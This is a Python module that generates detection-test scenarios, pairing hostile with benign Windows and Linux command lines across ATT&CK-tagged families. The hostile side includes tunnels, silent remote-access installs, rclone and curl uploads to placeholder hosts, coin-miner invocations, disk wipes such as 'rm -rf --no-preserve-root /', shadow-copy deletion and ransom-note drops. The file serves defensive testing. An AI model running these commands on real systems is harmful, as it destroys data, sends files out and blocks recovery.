"""Tools that people bring along or turn: tunnels, remote tools, uploads, miners, wipers, collectors, and how they come in."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

from tasks.families.tellings import Row, Telling, chained, control, file, made, order, script, setting, start
from tasks.paths import EXPLORER, POWERSHELL, SYSTEM32
from tasks.scene import GRAVE, HOST, TOOL, Family

_CMD = SYSTEM32 + "cmd.exe"
_PARENTS = (EXPLORER, _CMD)
_ANYDESK = "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe"
_RCLONE = "C:\\Program Files\\rclone\\rclone.exe"
_INSTALLED = "C:\\Program Files\\{word}\\{word}.exe"
_UNPACKED = "C:\\Users\\{user}\\AppData\\Local\\Temp\\"

Told = tuple[str, str, str]  # a program, arguments that a rule finds, and arguments that it does not


def _by(program: str, arguments: str) -> Row:
    return order(program, arguments, parent="/usr/bin/bash" if program.startswith("/") else _PARENTS)


def _found(*told: Told) -> list[Telling]:
    return [[_by(program, found)] for program, found, _ in told]


def _ordinary(*told: Told) -> list[Telling]:
    return [[_by(program, ordinary)] for program, _, ordinary in told]


# ---------------------------------------------------------------- from outside to inside and back
_TUNNELS: tuple[Told, ...] = (
    ("C:\\Program Files\\ngrok\\ngrok.exe", "tcp 3389", "version"),
    ("C:\\Program Files\\ngrok\\ngrok.exe", "http 8080 --log D:\\{word}.log", "config check --log D:\\{word}.log"),
    ("C:\\Program Files\\cloudflared\\cloudflared.exe", "tunnel --url rdp://localhost:3389", "access rdp --url localhost:3389"),
    ("C:\\Program Files\\cloudflared\\cloudflared.exe", "tunnel run --token {token}", "update"),
    ("D:\\Tools\\chisel.exe", "client https://{domain}:443 R:{number}:127.0.0.1:3389", "--version"),
    ("D:\\Tools\\{word}.exe", "client {address}:443 R:{number}:socks", "client {address}:443 {number}:{host}:443"),
    ("D:\\Tools\\frpc.exe", "-c D:\\{word}\\frpc.toml", "verify --config D:\\{word}\\frpc.toml"),
    ("D:\\Tools\\{word}.exe", "-connect {domain}:11601 -retry -ignore-cert", "-connect {domain}:11601 -retry"),
    ("C:\\Program Files\\Microsoft VS Code\\Code.exe", "tunnel --accept-server-license-terms --name {word}", "--new-window D:\\{word}"),
    ("C:\\Program Files\\devtunnel\\devtunnel.exe", "host -p {number} --allow-anonymous", "list --limit {number}"),
    ("C:\\Program Files\\Tailscale\\tailscale.exe", "up --authkey tskey-{token}", "status --peers"),
    ("D:\\Tools\\gost.exe", "-L socks5://:{number} -F relay+tls://{domain}:443", "-C D:\\{word}\\gost.yml"),
)  # fmt: skip
_UNATTENDED: tuple[Told, ...] = (
    (_ANYDESK, "--install C:\\ProgramData\\AnyDesk --start-with-win --silent", "--service"),
    (_ANYDESK, "--set-password", "--get-id"),
    (_ANYDESK, "--install D:\\{word}", "--control"),
)
_SILENT: tuple[Told, ...] = (
    ("C:\\Program Files\\RustDesk\\rustdesk.exe", "--password {token}", "--get-id"),
    ("C:\\Program Files\\RustDesk\\rustdesk.exe", "--silent-install", "--tray"),
    ("msiexec.exe", "/i D:\\{word}\\ScreenConnect.ClientSetup.msi /qn", "/i D:\\{word}\\ScreenConnect.ClientSetup.msi"),
    ("msiexec.exe", "/i D:\\{word}\\TeamViewer_Host.msi /quiet", "/i D:\\{word}\\{word2}_Host.msi /quiet"),
    ("msiexec.exe", "/qn /i D:\\{word}\\{word2}.msi IntegratorLogin=it@{domain}", "/qn /i D:\\{word}\\{word2}.msi"),
    ("cmd.exe", "/c D:\\{word}\\TeamViewer_Setup.exe /S", "/c D:\\{word}\\{word2}_Setup.exe /S"),
    ("D:\\{word}\\meshagent64.exe", "-fullinstall", "-connect"),
)
_SIZES = tuple(range(61_000_013, 290_000_000, 7_654_321))  # bytes: too few for an upload that decides by itself


def _sent(*told: Told, hostile: bool) -> list[Telling]:
    """Make tellings of a command that sends files, or does not, and of what its program sends outside after it."""
    return [
        [order(program, found if hostile else ordinary, parent=_PARENTS), _flow(program)]
        for program, found, ordinary in told
    ]


def _flow(program: str) -> Row:
    fields = {
        "src_ip": "{ip}",
        "dst_ip": "{address}",
        "dst_port": 443,
        "bytes_out": _SIZES,
        "bytes_in": tuple(range(10_007, 900_000, 30_011)),
        "direction": "outbound",
        "process_path": program
        if "\\" in program
        else POWERSHELL
        if program == "powershell.exe"
        else SYSTEM32 + program,
        "dst_scope": "external",
    }
    return Row("net_conn", "flow", fields, after=(5, 240))


_COPIES: tuple[Told, ...] = (
    (_RCLONE, "copy D:\\Shares\\{word} {word2}:{word3} --transfers 8", "lsd {word2}:{word3} --max-depth 8"),
    (_RCLONE, "sync D:\\Projects {word2}:{word3} --no-check-certificate", "check D:\\Projects {word2}:{word3} --one-way"),
    (_RCLONE, "move D:\\{word}.7z {word2}:{word3}", "config show {word2}"),
    ("powershell.exe", "-Command Invoke-RestMethod -Uri https://{domain}/{word} -Method Put -InFile D:\\{word2}.7z", "-Command Invoke-RestMethod -Uri https://{domain}/{word} -Method Get -OutFile D:\\{word2}.7z"),
    ("powershell.exe", "-Command $client.UploadFile('https://{domain}/{word}', 'D:\\{word2}.7z')", "-Command Get-FileHash D:\\{word2}.7z"),
)  # fmt: skip
_UPLOADS: tuple[Told, ...] = (
    ("curl.exe", "-T D:\\{word}.7z https://{domain}/{word2}", "-o D:\\{word}.7z https://{domain}/{word2}"),
    ("curl.exe", "https://{domain}/{word2} -F file=@D:\\{word}.7z", "https://{domain}/{word2} -H accept:text/plain"),
    ("curl.exe", "--upload-file D:\\{word}.7z sftp://{domain}/{word2}", "--head sftp://{domain}/{word2}"),
    ("C:\\Program Files\\AzCopy\\azcopy.exe", "copy D:\\Shares\\{word} https://{word2}.blob.core.example/{word3}", "copy https://{word2}.blob.core.example/{word3} D:\\Shares\\{word}"),
    ("C:\\Program Files\\MEGAcmd\\MEGAcmd.exe", "put D:\\{word}.7z /{word2}", ""),
)  # fmt: skip

# ---------------------------------------------------------------- harm
_MINERS: tuple[Told, ...] = tuple(
    (program, found, ordinary)
    for program in (_INSTALLED, "D:\\{word}\\{word2}.exe")
    for found, ordinary in (
        ("-o stratum+tcp://{domain}:3333 -u {token} -p x", "-o https://{domain}:8443 -u {token} -p x"),
        ("--url stratum+ssl://{domain}:443 --user {token}", "--url https://{domain}:443 --user {token}"),
        ("--donate-level 1 -o {domain}:3333 --threads 4", "--log-level 1 -o {domain}:8443 --threads 4"),
        ("--cpu-max-threads-hint=50 --config D:\\{word3}.json", "--max-threads=50 --config D:\\{word3}.json"),
        ("--algo rx/0 --url {domain}:3333", "--algo sha256 --url {domain}:8443"),
        ("--coin=monero --url {domain}:3333", "--queue=orders --url {domain}:8443"),
    )
)
_WIPES: tuple[Told, ...] = (
    ("C:\\Program Files\\Sysinternals\\sdelete64.exe", "-p 3 -s D:\\{word}", "-nobanner D:\\{word}.txt"),
    ("C:\\Program Files\\Sysinternals\\sdelete.exe", "-accepteula -z E:", "-accepteula -?"),
    ("cmd.exe", "/c rd /s /q C:\\Users", "/c rd /s /q C:\\Users\\{user}\\{word}"),
    ("cmd.exe", "/c del /f /s /q D:\\*.*", "/c del /f /s /q D:\\{word}\\{word2}\\*.*"),
    ("cmd.exe", "/c format E: /fs:ntfs /y /q", "/c vol E:"),
    ("powershell.exe", "-Command Remove-Item -Recurse -Force D:\\", "-Command Remove-Item -Recurse -Force D:\\{word}\\{word2}"),
    ("powershell.exe", "-Command Clear-Disk -Number 1 -RemoveData -Confirm:0", "-Command Get-Disk -Number 1"),
    ("format.com", "E: /y /q /v:{word}", "E: /?"),
)  # fmt: skip
_DISKS: tuple[Told, ...] = (
    ("/usr/bin/dd", "if=/dev/zero of=/dev/sdb bs=1M", "if=/dev/zero of=/srv/{word}.img bs=1M count=64"),
    ("/usr/bin/dd", "if=/dev/urandom of=/dev/nvme0n1", "if=/dev/sdb of=/srv/{word}.img"),
    ("/usr/bin/shred", "-n 3 -z /dev/sdb", "-n 3 -z /srv/{word}.key"),
    ("/usr/sbin/mkfs", "-t ext4 /dev/sdb1", "-t ext4 /srv/{word}.img"),
    ("/usr/bin/rm", "-rf --no-preserve-root /", "-rf --one-file-system /srv/{word}"),
    ("/usr/bin/rm", "-rf /home", "-rf /home/{user}/{word}"),
)
_PENGUINS: tuple[Told, ...] = (
    ("/usr/local/bin/ngrok", "tcp 22", "config check"),
    ("/usr/local/bin/cloudflared", "tunnel run --token {token}", "version --token {token}"),
    ("/opt/{word}/chisel", "client {domain}:443 R:{number}:127.0.0.1:22", "--help {domain}:443"),
    ("/opt/{word}/{word2}", "-connect {domain}:11601 -ignore-cert", "-connect {domain}:11601 -retry"),
    ("/opt/{word}/frpc", "-c /opt/{word}/frpc.toml", "verify /opt/{word}/frpc.toml"),
)
_BACKUPS: tuple[Told, ...] = (
    ("wmic.exe", "shadowcopy delete", "shadowcopy list brief"),
    ("powershell.exe", "-Command (Get-WmiObject Win32_ShadowCopy).Delete()", "-Command (Get-WmiObject Win32_ShadowCopy).Count"),
    ("powershell.exe", "-Command Get-CimInstance Win32_ShadowCopy | Remove-CimInstance", "-Command Get-CimInstance Win32_ShadowCopy | Format-Table"),
)  # fmt: skip
_RECOVERIES: tuple[Told, ...] = (
    ("bcdedit.exe", "/set recoveryenabled no", "/set recoveryenabled yes"),
    ("bcdedit.exe", "/set bootstatuspolicy ignoreallfailures", "/set bootstatuspolicy displayallfailures"),
    ("wbadmin.exe", "delete catalog -quiet", "get versions -quiet"),
    ("wbadmin.exe", "delete systemstatebackup -keepVersions:0", "get items -version:{number}"),
    ("reagentc.exe", "/disable", "/info"),
    ("cipher.exe", "/w:D:\\", "/c D:\\{word}"),
)


def _stops(program: str, *texts: str) -> Telling:
    """Make a telling of the starts of a program with one text after another."""
    return [order(program, text, parent=_CMD, after=(2, 30)) for text in texts]


_SERVICES = tuple(f"{{word{number}}}" for number in range(2, 10))
_STOPPED = (
    _stops("sc.exe", *(f"stop {name}" for name in _SERVICES)),
    _stops("taskkill.exe", *(f"/f /im {name}.exe" for name in _SERVICES)),
    _stops("powershell.exe", *(f"-Command Stop-Service -Name {name}" for name in _SERVICES)),
)
_RESTARTED = (
    _stops("sc.exe", *(f"start {name}" for name in _SERVICES)),
    _stops("sc.exe", *(f"{verb} {{word}}" for verb in ("stop", "query", "start", "query") * 2)),
    _stops("taskkill.exe", *(f"/pid {{number{number}}}" for number in range(2, 10))),
    _stops("powershell.exe", *(f"-Command Restart-Service -Name {name}" for name in _SERVICES)),
)
_FOLDERS = ("Desktop", "Documents", "Pictures", "Music", "Downloads", "Videos")
_NOTES = ("README_{{word9}}{}.txt", "HOW_TO_{{word9}}{}.html", "{{word9}}{}_files.hta", "{{word9}}{}-decrypt.txt")


def _notes(folders: Sequence[str], names: Sequence[str], program: str) -> Telling:
    return [
        file(f"C:\\Users\\{{user}}\\{folder}\\{name}", program, after=(1, 25))
        for folder, name in zip(folders, names, strict=True)
    ]


def _noted(*, alike: bool, deep: bool = False) -> list[Telling]:
    """Make tellings of a text that a program puts into a person's folders, or below one of them, under one name or each its own."""
    return [
        _notes(
            [
                f"Documents\\{{word{number}}}\\{folder}x" if deep else folder
                for number, folder in enumerate(_FOLDERS, 2)
            ],
            [name.format(4 if alike else number) for number in range(2, 8)],
            program,
        )
        for name in _NOTES
        for program in (_INSTALLED, "C:\\Users\\{user}\\Downloads\\{word}.exe")
    ]


# ---------------------------------------------------------------- what is gathered, kept and lent
_MAIL: tuple[Told, ...] = (
    ("powershell.exe", "-Command New-MailboxExportRequest -Mailbox {other_user} -FilePath \\\\{host}\\{word}\\{word2}.pst", "-Command Get-MailboxExportRequest -Mailbox {other_user}"),
    ("powershell.exe", "-Command Search-Mailbox {other_user} -TargetMailbox {user} -TargetFolder {word}", "-Command Search-Mailbox {other_user} -EstimateResultOnly"),
    ("cmd.exe", "/c copy D:\\Mail\\{other_user}.ost E:\\{word}", "/c dir D:\\Mail\\{other_user}.ost"),
    ("robocopy.exe", "D:\\Mail E:\\{word} {other_user}.pst", "D:\\Mail E:\\{word} {other_user}.txt"),
)  # fmt: skip
_MAPI = "$outlook = New-Object -ComObject Outlook.Application; $mail = $outlook.{}"
_FILTER = "-Namespace root/subscription -Class {} -Arguments $values"
_CLASSES = ("__EventFilter", "CommandLineEventConsumer", "ActiveScriptEventConsumer", "__FilterToConsumerBinding")
_SUBSCRIBED: tuple[Told, ...] = (
    *(("wmic.exe", f"/namespace:\\\\root\\subscription path {name} create name={{word}}", f"/namespace:\\\\root\\subscription path {name} get name") for name in _CLASSES),
    ("powershell.exe", "-Command New-CimInstance -Namespace root/subscription -ClassName __EventFilter -Property $values", "-Command Get-CimInstance -Namespace root/subscription -ClassName __EventFilter"),
)  # fmt: skip
_TRANSFERS: tuple[Told, ...] = (
    ("bitsadmin.exe", "/SetNotifyCmdLine {word} D:\\{word2}\\{word3}.exe NULL", "/SetNotifyFlags {word} 1"),
    ("bitsadmin.exe", '/setnotifycmdline {word} C:\\Windows\\System32\\{word2}.exe "/c"', "/getnotifycmdline {word}"),
    ("bitsadmin.exe", "/SetNotifyCmdLine {word} C:\\Apps\\{word2}.cmd NULL", "/list /allusers"),
)
_COMPONENTS: tuple[Told, ...] = (
    ("netsh.exe", "add helper D:\\{word}\\{word2}.dll", "show helper"),
    ("sdbinst.exe", "-q D:\\{word}\\{word2}.sdb", "-q -n {word2}"),
    ("C:\\Windows\\System32\\inetsrv\\appcmd.exe", "install module /name:{word} /image:D:\\{word2}.dll", "list modules /name:{word}"),
    ("C:\\Windows\\System32\\inetsrv\\appcmd.exe", 'add module /name:{word} /app.name:"{word2}/"', "list apppools /name:{word}"),
    ("rundll32.exe", 'printui.dll,PrintUIEntry /ia /m "{word}" /f D:\\{word2}\\{word3}.inf', "printui.dll,PrintUIEntry /s /t2"),
    ("powershell.exe", "-Command New-WebGlobalModule -Name {word} -Image D:\\{word2}.dll", "-Command Get-WebGlobalModule -Name {word}"),
)  # fmt: skip
_SHARED: tuple[Told, ...] = (
    ("net.exe", "share {word}=D:\\{word2} /grant:everyone,full", "share {word}=D:\\{word2} /grant:{user},read"),
    ("net.exe", "share {word}=D:\\", "share {word}"),
    ("net.exe", "share {word}=C:\\ /unlimited", "share {word} /delete"),
    ("powershell.exe", "-Command New-SmbShare -Name {word} -Path D:\\{word2} -FullAccess Everyone", "-Command New-SmbShare -Name {word} -Path D:\\{word2} -ReadAccess {user}"),
)  # fmt: skip
_BORROWED: tuple[Told, ...] = (
    ("runas.exe", "/savecred /user:{other_user} D:\\{word}.exe", "/user:{other_user} D:\\{word}.exe"),
    ("runas.exe", "/netonly /user:corp\\{other_user} mmc.exe", "/user:corp\\{other_user} mmc.exe"),
    ("runas.exe", "/netonly /user:{other_user} cmd.exe", "/profile /user:{other_user} cmd.exe"),
    ("runas.exe", "/user:{other_user} /savecred regedit.exe", "/noprofile /user:{other_user} regedit.exe"),
)

# ---------------------------------------------------------------- coming in
_ARCHIVES = ("Temp1_{word}.zip\\", "Rar$EXa{number}.{number2}\\", "7zO{hex}\\", "BNZ.{hex}\\")
_SAVED = ("{word}_zip\\", "Rar{number}.{number2}\\", "{hex}\\", "BNZ{hex}\\")


def _opened(folders: Sequence[str]) -> list[Telling]:
    """Make tellings of what somebody opens in an archive: a program, or a script that its host runs."""
    return [
        telling
        for folder in folders
        for telling in (
            [start(f"{_UNPACKED}{folder}{{word2}}.exe", f'"{_UNPACKED}{folder}{{word2}}.exe"')],
            [start(_CMD, f'cmd.exe /c ""{_UNPACKED}{folder}{{word2}}.bat" "')],
        )
    ]


def _installed_by(parent: str) -> list[Telling]:
    return [
        [start(_CMD, ("cmd.exe /c D:\\{word}\\{word2}.cmd", "cmd.exe /c echo {word}"), parent)],
        [
            start(
                POWERSHELL,
                ("powershell.exe -File D:\\{word}\\{word2}.ps1", "powershell.exe -Command Get-Service"),
                parent,
            )
        ],
    ]


_SAFE = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot\\Minimal\\{word13}\\(Default)"


def _wall(value: str) -> Telling:
    return [
        control("firewall", "firewall setting Enable Windows Firewall", value, SYSTEM32 + "netsh.exe", after=(20, 600))
    ]


def _family(name: str, technique: str, category: Any, rule: str, told: Sequence[Told], **more: Any) -> Family:
    """Make a family of commands that are suspicious, or with `reaches` confirmed."""
    more["confirmed" if "reaches" in more else "suspicious"] = _found(*told)
    return made(name, technique, category, (rule,), below=_ordinary(*told), **more)


FAMILIES: tuple[Family, ...] = (
    _family("opened_tunnel", "T1572", "command_and_control", "tunnel-started", _TUNNELS),
    _family("unattended_desk", "T1219", "command_and_control", "remote-tool-installed", _UNATTENDED, explanations=TOOL),
    _family("silent_remote_tool", "T1219", "command_and_control", "remote-tool-installed", _SILENT),
    made(
        "copied_out",
        "T1567.002",
        "exfiltration",
        ("copied-to-storage",),
        suspicious=_sent(*_COPIES, hostile=True),
        below=_sent(*_COPIES, hostile=False),
        explanations=TOOL,
    ),
    made(
        "uploaded_archive",
        "T1048",
        "exfiltration",
        ("copied-to-storage",),
        suspicious=_sent(*_UPLOADS, hostile=True),
        below=_sent(*_UPLOADS[:-1], hostile=False),
    ),
    _family("mined_coins", "T1496.001", "impact", "coin-miner", _MINERS, reaches=HOST),
    _family("wiped_data", "T1485", "impact", "data-wiped", _WIPES),
    _family("wiped_disk", "T1561.001", "impact", "data-wiped", _DISKS, platform="linux"),
    _family("tunnel_of_server", "T1572", "command_and_control", "tunnel-started", _PENGUINS, platform="linux"),
    _family("removed_backups", "T1490", "impact", "recovery-inhibited", _BACKUPS, explanations=TOOL),
    _family("prevented_recovery", "T1490", "impact", "recovery-inhibited", _RECOVERIES),
    made(
        "halted_services",
        "T1489",
        "impact",
        ("services-stopped",),
        suspicious=_STOPPED,
        below=_RESTARTED,
    ),
    made(
        "left_notes",
        "T1486",
        "impact",
        ("ransom-note",),
        confirmed=_noted(alike=True),
        below=[*_noted(alike=False), *_noted(alike=True, deep=True)],
        reaches=GRAVE,
    ),
    chained(
        "double_extortion",
        "T1486",
        "exfiltration",
        ("copied-to-storage", "ransom-note"),
        [(_sent(*_UPLOADS[:1], hostile=True)[0], _sent(*_UPLOADS[:1], hostile=False)[0])],
        ending=(_noted(alike=True)[0], _noted(alike=False)[0]),
        reaches=GRAVE,
    ),
    made(
        "gathered_mail",
        "T1114.001",
        "collection",
        ("mail-collected",),
        suspicious=[*_found(*_MAIL), [script(*(_MAPI.format(use) for use in ("GetNamespace('MAPI')", "Session.GetDefaultFolder(6)")))]],
        below=[*_ordinary(*_MAIL), [script(*(_MAPI.format(use) for use in ("CreateItem(0)", "Version")))]],
    ),
    made(
        "subscribed_by_command",
        "T1546.003",
        "persistence",
        ("subscription-command",),
        suspicious=[*_found(*_SUBSCRIBED), [script(*("Set-WmiInstance " + _FILTER.format(name) for name in _CLASSES))]],
        below=[*_ordinary(*_SUBSCRIBED), [script(*("Get-WmiObject " + _FILTER.format(name) for name in _CLASSES))]],
        explanations=TOOL,
    ),
    _family("notified_transfer", "T1197", "persistence", "transfer-runs-command", _TRANSFERS, reaches=HOST, explanations=TOOL),
    _family("added_component", "T1546", "persistence", "component-installed", _COMPONENTS),
    _family("shared_folder", "T1135", "lateral_movement", "share-opened", _SHARED),
    # A service that starts in safe mode, where sensors do not, writes the notes there: ATT&CK S1053, T1562.009 before T1486.
    chained(
        "note_in_safe_mode",
        "T1562.009",
        "defense_evasion",
        ("safe-mode-entry", "ransom-note"),
        [([setting(_SAFE, "Service")], [setting(_SAFE, "Service", SYSTEM32 + "svchost.exe")])],
        ending=(_noted(alike=True)[4], _noted(alike=False)[4]),
        reaches=GRAVE,
    ),
    # Switches are thrown before the data is held for ransom: ATT&CK T1562.004 and T1490 before T1486.
    chained(
        "note_behind_open_doors",
        "T1486",
        "impact",
        ("firewall-switched-off", "recovery-inhibited", "ransom-note"),
        [(_wall("No"), _wall("Yes")), (_found(*_RECOVERIES)[2], _ordinary(*_RECOVERIES)[2])],
        ending=(_noted(alike=True)[2], _noted(alike=False)[2]),
        reaches=GRAVE,
    ),
    _family("saved_credentials", "T1134.002", "privilege_escalation", "saved-credentials-used", _BORROWED),
    made(
        "opened_archive",
        "T1566.001",
        "initial_access",
        ("attachment-opened",),
        suspicious=_opened(_ARCHIVES),
        below=_opened(_SAVED),
    ),
    made(
        "shell_of_package",
        "T1218.007",
        "defense_evasion",
        ("package-starts-shell",),
        suspicious=_installed_by("C:\\Windows\\Installer\\MSI{number}.tmp"),
        below=[*_installed_by(SYSTEM32 + "msiexec.exe"), *_installed_by("C:\\Windows\\Installer\\{word}{number}.tmp")],
    ),
)  # fmt: skip
